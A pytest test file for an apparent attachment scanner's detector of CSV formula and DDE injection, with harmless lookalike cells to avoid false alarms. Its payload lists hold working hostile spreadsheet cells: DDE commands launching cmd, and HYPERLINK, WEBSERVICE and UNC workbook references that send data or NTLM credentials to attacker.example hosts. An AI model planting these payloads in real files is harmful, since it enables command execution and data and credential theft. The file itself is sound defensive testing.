"""Text engine: formula and DDE injection in CSV and text files, without false alarms."""

from __future__ import annotations

import csv
import io

import pytest

from attachguard.codes import FindingCode
from attachguard.engines.base import Item, Result
from attachguard.engines.text import MAX_FINDINGS, TextEngine, classify, decode
from attachguard.policy import Policy
from attachguard.report import FileType

CSV_TYPE = FileType("csv", "text/csv", "code", True)
TXT_TYPE = FileType("txt", "text/plain", "text", True)

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
    '=WEBSERVICE("http://evil.example/"&B2)',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "=SUM(A1:A9)",
    "@SUM(1,2)",
    "\t=cmd|' /C calc'!A0",  # tab-prefixed
    '\r=HYPERLINK("http://evil.example")',  # CR-prefixed
    ' =cmd|" /C calc"!A0',  # space-prefixed
    # another workbook, which Excel opens to show the cell (from a share: NTLM credentials)
    "='\\\\attacker.example\\share\\[Book2.xlsx]Sheet1'!A1",
    "+'\\\\attacker.example\\share\\[Book2.xlsx]Sheet1'!A1",
    "='http://attacker.example/[Book2.xlsx]Sheet1'!A1",
    "=[Book2.xlsx]Sheet1!A1",
    "='\\\\attacker.example\\s\\[Book2.xlsx]Sheet1'!1:1",  # a whole row
    "='/\\attacker.example\\s\\[Book2.xlsx]Sheet1'!A1",  # Windows reads /\ as \\
    "=SUM( '\\\\attacker.example\\s\\Book2.xlsx'!\\Total, 1)",  # a name it defines
    "=@'\\\\attacker.example\\s\\[Book2.xlsx]Sheet1'!A1",  # implicit intersection
    "='C:\\Users\\me\\[Book2.xlsx]Sheet1'!A1",
]
HARMLESS = [
    "-12.50",
    "+44 20 7946 0958",
    "+1 (555) 0100",
    "@handle",
    "@alice (support)",
    "- item one (fragile)",
    "- see attached (2 pages)",
    "Price (EUR)",
    "- image (see attached)",
    "- item 2 missing | see photo!",
    "- what is DDE (dynamic data exchange)?",
    "a|b",
    "=1+1",
    "=Sheet1!A1",
    "- [x] done!",
    "Great [really]! Thanks",
    "- see https://groups.google.com/forum/#!topic/excel/abc",
    "@[Support] Yahoo!Japan order",
    "- see https://1drv.ms/x/s!AkQxyz123",  # OneDrive links carry a "!"
    "@bob shared https://1drv.ms/w/s!AbcDef",
    "- [x] Called back!Done",
    "+ https://example.com/#!about",
    "='My Sheet'!A1",
    "='Jan:Mar'!A1",  # a 3D reference: three sheets of this workbook
    "='Great!Thanks'!A1",
    "'=cmd|' /C calc'!A0",  # Excel shows a cell starting with ' as text
    "bob@example.com",
    "",
]


def scan(policy: Policy, name: str, data: bytes, filetype: FileType = CSV_TYPE) -> Result:
    return TextEngine().scan(Item(name, data, filetype), policy.context())


def csv_bytes(rows: list[list[str]], delimiter: str = ",") -> bytes:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter).writerows(rows)
    return buf.getvalue().encode()


def located(result: Result) -> list[str | None]:
    assert all(f.code is FindingCode.FORMULA_INJECTION for f in result.findings)
    return [f.location for f in result.findings]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_in_csv_is_found_with_its_cell(policy: Policy, payload: str) -> None:
    rows = [["name", "amount", "note"], ["Alice", "12.50", "ok"], ["Bob", payload, "x"]]
    result = scan(policy, "orders.csv", csv_bytes(rows))
    assert located(result) == ["row 3, column 2"]
    assert payload.strip() not in result.findings[0].message  # never the content itself


@pytest.mark.parametrize("cell", HARMLESS)
def test_harmless_cells_pass(policy: Policy, cell: str) -> None:
    assert classify(cell) is None
    rows = [["name", "value"], ["Alice", cell], ["Bob", cell]]
    assert scan(policy, "contacts.csv", csv_bytes(rows)).findings == []


def test_messages_say_what_kind_of_formula(policy: Policy) -> None:
    rows = [["a"], ["=cmd|' /C calc'!A0"], ['=HYPERLINK("http://x.example")'], ["=SUM(A1:A2)"]]
    messages = [f.message for f in scan(policy, "a.csv", csv_bytes(rows)).findings]
    assert messages == [
        "CSV cell with a formula that runs a command (DDE)",
        "CSV cell with a formula calling HYPERLINK, which can open links or send data out",
        "CSV cell with a spreadsheet formula",
    ]


def test_quoted_payload_with_delimiters_inside(policy: Policy) -> None:
    data = b'id,note\n1,"=HYPERLINK(""http://evil.example/?a=1,2"",""x"")"\n'
    assert located(scan(policy, "a.csv", data)) == ["row 2, column 2"]


def test_rows_count_records_not_lines(policy: Policy) -> None:
    data = b"id,note\n1,\"two\nlines\"\n2,=cmd|' /C calc'!A0\n"
    assert located(scan(policy, "a.csv", data)) == ["row 3, column 2"]


def test_semicolon_csv(policy: Policy) -> None:
    data = b"name;amount\nBob;-3,20\nEve;=cmd|' /C calc'!A0\n"
    assert located(scan(policy, "a.csv", data)) == ["row 3, column 2"]


def test_excel_sep_directive(policy: Policy) -> None:
    data = b"sep=;\nname;note\nEve;+cmd|' /C calc'!A0\n"
    assert located(scan(policy, "a.csv", data)) == ["row 3, column 2"]


def test_payload_behind_another_locales_delimiter(policy: Policy) -> None:
    # Read with ",", the cell is "x;=cmd..."; Excel in a ";" locale sees "=cmd..." in a cell.
    data = b"name,note\nBob,x;=cmd|' /C calc'!A0\n"
    assert located(scan(policy, "a.csv", data)) == ["row 2, column 2"]


def test_utf16_csv_with_bom(policy: Policy) -> None:
    text = 'name\tnote\r\nBob\t=HYPERLINK("http://evil.example")\r\n'
    data = "\ufeff".encode("utf-16-le").join([b"", text.encode("utf-16-le")])
    assert data.startswith(b"\xff\xfe")
    result = scan(policy, "export.csv", data, TXT_TYPE)  # Magika: txt (low confidence)
    assert located(result) == ["row 2, column 2"]


def test_utf16_without_bom_and_latin1() -> None:
    text = "name,note\nJosé,=cmd|' /C calc'!A0\n"
    assert decode(text.encode("utf-16-le")) == text
    assert decode(text.encode("utf-16-be")) == text
    assert decode(text.encode("latin-1")) == text
    assert decode(b"\xef\xbb\xbf" + text.encode()) == text


def test_a_field_of_any_length_is_one_cell(policy: Policy) -> None:
    # past the csv module's default field size limit (128 KiB) the file was read line by line,
    # each line cut at its delimiters, quotes or not: a formula whose text constant holds
    # delimiters came apart into pieces no formula starts (red team 112)
    huge = "x" * 200_000
    formula = '"=""x,;\t""&cmd|\' /C calc\'!A0"'
    data = f'id,note\n1,"{huge}"\n2,{formula}\n'.encode()
    assert located(scan(policy, "a.csv", data)) == ["row 3, column 2"]
    unterminated = f"id,note\n1,\"{huge}\n2,=cmd|' /C calc'!A0\n".encode()
    assert located(scan(policy, "a.csv", unterminated)) == ["row 2, column 2"]  # its pieces


def test_text_file_gets_only_the_dde_rule(policy: Policy) -> None:
    data = b"Hello,\nplease see =SUM(A1:A3) and =HYPERLINK(\"x\")\n=cmd|' /C calc'!A0\nThanks\n"
    result = scan(policy, "letter.txt", data, TXT_TYPE)
    assert [(f.message, f.location) for f in result.findings] == [
        ("text a spreadsheet would run as a command (DDE)", "line 3")
    ]


def test_text_named_txt_gets_text_rules_even_when_magika_says_csv(policy: Policy) -> None:
    data = b"name,total\nAnn,=SUM(A1:A3)\n"
    assert scan(policy, "notes.txt", data, CSV_TYPE).findings == []
    assert len(scan(policy, "notes.csv", data, CSV_TYPE).findings) == 1


def test_dde_call_in_text(policy: Policy) -> None:
    result = scan(policy, "a.txt", b'id;note\n1;=DDE("cmd";"/c calc";"x")\n', TXT_TYPE)
    assert located(result) == ["line 2"]


def test_plain_text_passes(policy: Policy) -> None:
    letter = (
        b"Dear support,\n- the box (large) arrived crushed\n- item 2 missing | see photo!\n"
        b"Call me on +44 20 7946 0958 or @ann_smith.\nTotal: -12.50 EUR (refund)\n"
    )
    assert scan(policy, "letter.txt", letter, TXT_TYPE).findings == []


def test_findings_are_capped(policy: Policy) -> None:
    rows = [["n"]] + [["=cmd|' /C calc'!A0"]] * 50
    assert len(scan(policy, "a.csv", csv_bytes(rows)).findings) == MAX_FINDINGS


def test_sylk_posing_as_csv_is_flagged() -> None:
    from attachguard.engines.base import Item
    from attachguard.engines.text import TextEngine
    from attachguard.policy import load_policy
    from attachguard.report import FileType

    sylk = b'ID;P\nC;Y1;X1;K0;E EXEC("calc.exe")\nE\n'
    result = TextEngine().scan(
        Item("prices.csv", sylk, FileType("csv", "text/csv", "code", True)), load_policy().context()
    )
    assert [f.code.name for f in result.findings] == ["XLM_MACRO"]
    plain = b"IDENTIFIER;NAME\n1;Alice\n"
    result = TextEngine().scan(
        Item("ids.csv", plain, FileType("csv", "text/csv", "code", True)), load_policy().context()
    )
    assert result.findings == []


# -- red team 100: functions passed by name, calls after an operator ------------------------------

PASSED = (
    "CSV cell with a formula passing WEBSERVICE or IMAGE to a function, which fetches from the web"
)


@pytest.mark.parametrize(
    "cell",
    [
        '=0+COUNTA(MAP("http://attacker.example/leak?u="&INFO("osversion"),WEBSERVICE))',
        '=-LEN(LET(f,WEBSERVICE,f("http://attacker.example/beacon")))',
        '=0+ROWS(MAP("http://attacker.example/p.png",IMAGE))',
        '=1*LEN(BYROW("http://attacker.example/x";webservice))',
    ],
)
def test_webservice_passed_to_a_function_is_found(policy: Policy, cell: str) -> None:
    # Microsoft 365's eta lambdas: MAP calls the function it is given on each value
    rows = [["id", "value"], ["1", cell]]
    assert [f.message for f in scan(policy, "a.csv", csv_bytes(rows)).findings] == [PASSED]


@pytest.mark.parametrize(
    "cell", ['=-SUM(INDIRECT("A1"))', "=0+LEN(A1)", "=1*MAX(A1:A3)", "=A1&TEXT(B1,0)"]
)
def test_a_call_after_an_operator_is_a_formula(policy: Policy, cell: str) -> None:
    rows = [["id", "value"], ["1", cell]]
    messages = [f.message for f in scan(policy, "a.csv", csv_bytes(rows)).findings]
    assert messages == ["CSV cell with a spreadsheet formula"]


@pytest.mark.parametrize(
    "cell",
    [
        "- colours (red, image)",  # no call: IMAGE is no function passed to one
        "- image, video (front)",
        "- item(2)",  # a list item: no blank between - and a call is needed for a formula
        '- see "SUM(A1)" in the guide',  # a call only in text
        # text starting with + - @ counts only with a call at its start (review 102)
        "- send e-mail(s) to customer",
        "+ add-on(s) included",
        "@bob: see sign-off(1)",
        "-follow-up(s) pending",
        "- Q&A(Tuesday)",
    ],
)
def test_names_and_calls_in_text_pass(policy: Policy, cell: str) -> None:
    assert classify(cell) is None
